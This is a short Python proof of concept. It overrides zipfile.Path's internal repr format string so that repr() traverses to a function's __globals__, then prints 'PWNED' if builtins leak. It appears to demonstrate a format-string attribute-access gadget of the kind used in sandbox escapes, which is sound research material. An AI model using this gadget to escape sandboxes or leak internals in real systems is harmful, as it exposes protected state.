import io
import zipfile


class Place(zipfile.Path):
    _Path__repr = "{self.function.__globals__}"


def function():
    pass


place = Place(zipfile.ZipFile(io.BytesIO(), "w"))
place.function = function
if "builtins" in repr(place):
    print("PWNED")
